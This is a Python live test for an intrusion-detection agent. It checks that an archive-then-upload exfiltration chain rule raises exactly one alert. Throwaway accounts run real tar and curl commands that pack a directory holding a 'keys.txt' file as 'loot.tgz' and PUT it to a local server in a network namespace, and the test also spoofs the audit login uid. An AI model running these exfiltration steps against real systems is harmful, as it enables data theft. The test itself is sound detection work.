"""Live: ``exfiltration_archive_then_upload`` fires inside the real `keibi run`.

The agent follows the kernel's audit multicast group (`--follow audit-netlink`); the test
adds an execve audit rule with a key of its own. It creates five throwaway local accounts
(useradd; deleted afterwards) and gives each scenario its own login user by writing that
account's uid to /proc/self/loginuid in the child before exec: the audit ``auid``, which
the agent names (user.audit.name) from this host's accounts. Archives are made by the
real ``tar`` running as root under that login uid (as after sudo), uploads by the real
``curl`` running as the account itself, to an HTTP server of the test's own inside a
network namespace it creates (a veth pair on a private /30, as in test_chains_live.py;
no traffic leaves this machine).

One scenario per login user:

* A: ``tar -czf`` of a directory, then ``curl -T`` of the archive: the chain;
* B: ``curl -T`` first, then ``tar -czf``: upload before archive;
* C archives, D uploads C's archive: two different login users;
* E: ``tar -xzf`` of an archive, then a ``curl -O`` download.

A runs last, once the others' events are in the store. Exactly one exfiltration alert
must exist, for A, with tar and curl in its evidence. The time from A's upload to the
alert in `keibi alerts` is printed, not asserted. Exactly the audit rule added is
removed and the enabled flag is restored.
"""

from __future__ import annotations

import os
import pwd
import secrets
import shutil
import subprocess
import sys
import tarfile
import tempfile
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from keibi.rules.loader import builtin_rules_dir, load_rules
from keibi.sources.audit_netlink import audit_status, execve_rule, temporary_rule
from tests.live.agent import RunningAgent, alerts, search, wait_alerts, wait_running, wait_search
from tests.live.audit import assert_audit_as_found
from tests.live.test_chains_live import NamespaceListener

pytestmark = pytest.mark.slow

CHAIN = "exfiltration_archive_then_upload"

# An HTTP server for the test's namespace: PUT bodies are read and reported on stdout
# ("PUT <path> <bytes>"), GET answers a fixed body. It exits by itself after 5 minutes.
HTTP_DROP = r"""
import http.server, signal, sys
signal.alarm(300)
BODY = b"keibi test download\n" * 64

class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def _answer(self, code, body=b""):
        self.send_response(code)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(body)
        self.close_connection = True

    def do_PUT(self):
        n = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(n)
        print("PUT", self.path, len(body), flush=True)
        self._answer(201)

    def do_GET(self):
        print("GET", self.path, len(BODY), flush=True)
        self._answer(200, BODY)

    def log_message(self, *args):
        pass

srv = http.server.HTTPServer((sys.argv[1], 0), H)
print(srv.server_address[1], flush=True)
srv.serve_forever()
"""


def _chain_id() -> str:
    (rule,) = [r for r in load_rules([builtin_rules_dir()]).rules if r.name == CHAIN]
    return str(rule.id)


@dataclass(frozen=True)
class Login:
    """A throwaway local account and its work directory (owned by it)."""

    name: str
    uid: int
    gid: int
    home: Path


class HttpDrop:
    """The test's HTTP server inside ``listener``'s network namespace."""

    def __init__(self, listener: NamespaceListener) -> None:
        self.ip = listener.ip
        self.proc = subprocess.Popen(
            ["ip", "netns", "exec", listener.ns, sys.executable, "-c", HTTP_DROP, self.ip],
            stdout=subprocess.PIPE, text=True)
        try:
            assert self.proc.stdout is not None
            self.port = int(self.proc.stdout.readline())
        except BaseException:
            self.close()
            raise
        self.url = f"http://{self.ip}:{self.port}"

    def requests(self) -> list[tuple[str, str, int]]:
        """(method, path, bytes) of every request served; stops the server."""
        self.close()
        out, _ = self.proc.communicate(timeout=10)
        return [(m, p, int(n)) for m, p, n in (line.split() for line in out.splitlines())]

    def close(self) -> None:
        if self.proc.poll() is None:
            self.proc.terminate()
            self.proc.wait(10)


@pytest.fixture
def work() -> Iterator[Path]:
    """A directory under /tmp that the test's accounts can traverse (tmp_path is 0700)."""
    d = Path(tempfile.mkdtemp(prefix="keibi-test-", dir="/tmp"))
    d.chmod(0o755)
    try:
        yield d
    finally:
        shutil.rmtree(d, ignore_errors=True)


@pytest.fixture
def logins(work: Path) -> Iterator[dict[str, Login]]:
    """Five local accounts, A to E, each with a work directory of its own."""
    made: list[str] = []
    try:
        out: dict[str, Login] = {}
        for tag in "ABCDE":
            name = f"kbt{secrets.token_hex(3)}"
            subprocess.run(["useradd", "-M", "-s", "/usr/sbin/nologin", name], check=True,
                           timeout=30)
            made.append(name)
            pw = pwd.getpwnam(name)
            home = work / tag
            home.mkdir()
            os.chown(home, pw.pw_uid, pw.pw_gid)
            out[tag] = Login(name, pw.pw_uid, pw.pw_gid, home)
        yield out
    finally:
        for name in made:
            subprocess.run(["userdel", name], check=False, timeout=30)
    for name in made:
        with pytest.raises(KeyError):
            pwd.getpwnam(name)


def _run(login: Login, argv: list[str], *, as_user: bool, cwd: Path | None = None) -> None:
    """Run ``argv`` with ``login``'s uid as its audit login uid; as root (as after sudo)
    unless ``as_user``, then as the account itself."""

    def child() -> None:
        fd = os.open("/proc/self/loginuid", os.O_WRONLY)
        try:
            os.write(fd, str(login.uid).encode())
        finally:
            os.close(fd)
        if as_user:
            os.setgroups([])
            os.setgid(login.gid)
            os.setuid(login.uid)

    r = subprocess.run(argv, cwd=cwd, preexec_fn=child, stdin=subprocess.DEVNULL,
                       capture_output=True, text=True, timeout=30, check=False)
    assert r.returncode == 0, f"{argv} failed ({r.returncode}): {r.stderr}"


def _collection(root: Path) -> Path:
    """A directory of a few files worth packing."""
    src = root / "collected"
    (src / "docs").mkdir(parents=True)
    for i in range(5):
        (src / "docs" / f"report-{i}.txt").write_text(f"quarterly figures {i}\n" * 200)
    (src / "keys.txt").write_text(secrets.token_hex(256))
    return src


def _of(got: list[dict[str, Any]], rule_id: str) -> list[dict[str, Any]]:
    return [a for a in got if a["rule"]["id"] == rule_id]


def _wait_exec(data: Path, login: Login, program: str) -> None:
    """Wait until ``program`` run under ``login`` is in the store, named by login user."""
    wait_search(data, "event.action=process-started", f"user.audit.name={login.name}",
                f"process.name={program}", timeout=10)


def test_archive_then_upload_chain_fires_in_the_live_agent(
        tmp_path: Path, work: Path, logins: dict[str, Login]) -> None:
    assert os.geteuid() == 0, "needs root (audit control, useradd, network namespaces)"
    rule_id = _chain_id()
    key = f"keibi-test-{secrets.token_hex(6)}"
    a, b, c, d, e = (logins[t] for t in "ABCDE")
    src = _collection(work)
    before = audit_status()
    data = tmp_path / "data"
    listener = NamespaceListener()
    drop: HttpDrop | None = None
    agent: RunningAgent | None = None
    try:
        drop = HttpDrop(listener)
        agent = RunningAgent(data, ["audit-netlink"])
        st = wait_running(agent)
        (source,) = st["agent"]["sources"]
        assert (source["kind"], source["active"]) == ("audit-netlink", True), source
        with temporary_rule(execve_rule(f"{key}-x")):
            # B uploads first, then archives
            notes = b.home / "notes.txt"
            notes.write_text("nothing much\n")
            _run(b, ["curl", "-sS", "-T", str(notes), f"{drop.url}/b-notes.txt"],
                 as_user=True)
            _run(b, ["tar", "-czf", str(b.home / "b.tgz"), "-C", str(src), "."],
                 as_user=False)
            # C archives, D uploads C's archive
            c_tgz = c.home / "c.tgz"
            _run(c, ["tar", "-czf", str(c_tgz), "-C", str(src), "."], as_user=False)
            _run(d, ["curl", "-sS", "-T", str(c_tgz), f"{drop.url}/d-c.tgz"], as_user=True)
            # E extracts an archive (packed here without exec), then downloads
            e_tgz = e.home / "in.tgz"
            with tarfile.open(e_tgz, "w:gz") as tf:
                tf.add(src, arcname="collected")
            out = e.home / "out"
            out.mkdir()
            _run(e, ["tar", "-xzf", str(e_tgz), "-C", str(out)], as_user=False)
            _run(e, ["curl", "-sS", "-O", f"{drop.url}/update.bin"], as_user=True,
                 cwd=e.home)
            assert (e.home / "update.bin").stat().st_size > 0
            assert (out / "collected" / "keys.txt").read_text() == (
                src / "keys.txt").read_text()
            # every negative step reached the store under its own login user
            for login, program in ((b, "curl"), (b, "tar"), (c, "tar"), (d, "curl"),
                                   (e, "tar"), (e, "curl")):
                _wait_exec(data, login, program)
            assert not _of(alerts(data), rule_id), "a negative scenario raised the chain"
            # A archives as root, then uploads as itself
            loot = a.home / "loot.tgz"
            _run(a, ["tar", "-czf", str(loot), "-C", str(src), "."], as_user=False)
            _run(a, ["curl", "-sS", "-T", str(loot), f"{drop.url}/loot.tgz"], as_user=True)
            uploaded = time.monotonic()
            got = wait_alerts(data, lambda al: bool(_of(al, rule_id)), timeout=10)
            latency = time.monotonic() - uploaded
        got = alerts(data)
        served = drop.requests()
    finally:
        if agent is not None:
            agent.stop()
        if drop is not None:
            drop.close()
        listener.close()
    print(f"\nexfiltration chain: alert in `keibi alerts` {latency * 1000:.0f} ms "
          f"after the upload finished")
    chain = _of(got, rule_id)
    assert [x["user"]["audit"]["name"] for x in chain] == [a.name], chain
    (alert,) = chain
    evidence = alert["keibi"]["alert"]["evidence"]
    by_name = {ev["process"]["name"]: ev for ev in evidence}
    assert set(by_name) == {"tar", "curl"}, [ev["process"] for ev in evidence]
    assert [ev["process"]["name"] for ev in evidence] == ["tar", "curl"]
    tar_ev, curl_ev = by_name["tar"], by_name["curl"]
    assert tar_ev["process"]["args"][:3] == ["tar", "-czf", str(loot)]
    assert curl_ev["process"]["args"][:4] == ["curl", "-sS", "-T", str(loot)]
    # the login user links root's archive to the account's own upload
    assert tar_ev["user"]["name"] == "root" and curl_ev["user"]["name"] == a.name
    assert {ev["user"]["audit"]["name"] for ev in evidence} == {a.name}
    assert a.name in alert["message"] and "curl" in alert["message"], alert["message"]
    # the uploads really happened, byte for byte
    assert ("PUT", "/loot.tgz", loot.stat().st_size) in served, served
    assert ("PUT", "/d-c.tgz", c_tgz.stat().st_size) in served, served
    assert ("PUT", "/b-notes.txt", notes.stat().st_size) in served, served
    assert [r for r in served if r[0] == "GET"] == [("GET", "/update.bin", 1280)], served
    # the negatives are in the store and named by their login users
    for login in (b, c, d, e):
        assert search(data, f"user.audit.name={login.name}"), login
    assert_audit_as_found(before, key)
